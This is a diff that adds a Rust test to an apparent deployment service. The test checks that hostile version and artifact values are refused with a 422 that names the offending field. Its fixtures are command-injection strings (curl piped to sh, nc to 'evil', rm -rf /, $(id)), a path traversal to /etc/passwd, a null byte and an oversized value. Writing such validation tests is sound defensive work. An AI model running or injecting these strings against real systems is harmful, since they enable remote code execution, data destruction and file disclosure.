@@ -312,3 +312,89 @@ async fn malformed_cdevents_are_refused_with_the_field_to_fix() -> anyhow::Resul
     );
     Ok(())
 }
+
+/// Versions and artifacts reach deploy commands and URLs, so shell, paths, control characters
+/// and oversized values are refused at every door — CDEvents over HTTP and NATS, and release
+/// submission — with a 422 naming the field, and nothing is appended.
+#[tokio::test]
+async fn hostile_versions_and_artifacts_are_refused_at_every_door() -> anyhow::Result<()> {
+    let harness = Harness::start().await?;
+    let long = "1".repeat(10 * 1024);
+    let hostile = [
+        "1.0.0;curl x|sh",
+        "$(id)",
+        "`id`",
+        "1.0|nc evil 1",
+        "1.0\nrm -rf /",
+        "../../etc/passwd",
+        "1.0\u{0}",
+        long.as_str(),
+    ];
+    for (i, version) in hostile.iter().enumerate() {
+        let case = format!("cdevents version {version:?}");
+        // In customData: the path names it.
+        let body = serde_json::to_vec(&artifact(
+            &format!("hostile-{i}"),
+            "orders-api",
+            "9.9.9",
+            json!({ "branch": "main", "version": version }),
+        ))?;
+        let headers = auth(&harness);
+        refused(
+            &harness,
+            &case,
+            "cdevents",
+            422,
+            "customData.railyard.version",
+            || harness.post("/v1/cdevents", &headers, body.clone()),
+        )
+        .await?;
+        let before = harness.last_sequence().await?;
+        let reply = harness.nats(&[], body).await?;
+        assert_eq!(reply["status"], 422, "{case} over nats: {reply}");
+        assert_eq!(reply["path"], "customData.railyard.version", "{case}");
+        assert_eq!(harness.last_sequence().await?, before, "{case} over nats");
+
+        // In a release file.
+        let release = json!({
+            "id": format!("rel-hostile-{i}"),
+            "changes": [{"service": "orders-api", "version": version}],
+        });
+        let headers = auth(&harness);
+        let body = serde_json::to_vec(&release)?;
+        let answer = refused(
+            &harness,
+            &format!("release version {version:?}"),
+            "releases",
+            422,
+            "release.changes[0].version",
+            || harness.post("/v1/releases", &headers, body),
+        )
+        .await?;
+        let detail = answer["detail"].as_str().unwrap_or_default();
+        assert!(
+            detail.contains("allowed are") || detail.contains("over the limit of 128"),
+            "the detail says what is allowed: {answer}"
+        );
+    }
+    // An artifact with shell in it, in the purl itself.
+    let mut event = artifact(
+        "hostile-purl",
+        "orders-api",
+        "9.9.9",
+        json!({ "branch": "main" }),
+    );
+    event["subject"]["id"] = json!("pkg:oci/orders-api@9.9.9;id");
+    let headers = auth(&harness);
+    let body = serde_json::to_vec(&event)?;
+    refused(
+        &harness,
+        "hostile purl",
+        "cdevents",
+        422,
+        "subject.id",
+        || harness.post("/v1/cdevents", &headers, body),
+    )
+    .await?;
+    Ok(())
+}
